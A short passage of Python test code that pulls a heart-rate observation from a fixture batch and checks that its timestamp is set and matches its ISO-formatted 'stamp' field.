    [hr] = observations(fixture_batch(), "heart_rate")
    assert hr.timestamp is not None
    assert hr.stamp == hr.timestamp.isoformat()
